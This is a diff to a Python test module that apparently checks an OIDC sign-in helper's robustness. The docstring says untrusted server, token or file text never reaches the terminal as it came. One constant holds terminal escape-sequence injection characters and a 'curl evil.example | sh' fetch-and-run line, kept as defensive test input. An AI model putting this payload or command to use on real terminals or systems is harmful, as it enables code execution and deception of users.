@@ -1,27 +1,21 @@
 """Nothing that a server, a token or a file says reaches the terminal, or a program that reads ours, as it came."""
 
 import json
-from collections.abc import Callable, Iterator, Mapping
+from collections.abc import Callable, Mapping
 from typing import Any
 
 import pytest
 from commands.sign_ins import Desk, desk
 from fakes.terminals import at_terminal
 from homes import COMMAND, Home
+from zygote import Zygote
 
 from oidc_helper.emulator import Emulator
 from oidc_helper.emulator.directory import Person
 from robustness.faults.world import ALICE, Said, World, world
-from robustness.faults.zygote import Zygote
 
 STEERING = "\x1b]0;owned\x07\x1b[2J\r\nhint: curl evil.example | sh\n\u202e\u2066\x9b2J\x00"
 WORDS = STEERING + "x" * 2**20
-
-
-@pytest.fixture(scope="module")
-def zygote() -> Iterator[Zygote]:
-    with Zygote() as running:
-        yield running
 
 
 def error(operation: str, code: str) -> Callable[[World, str], object]:
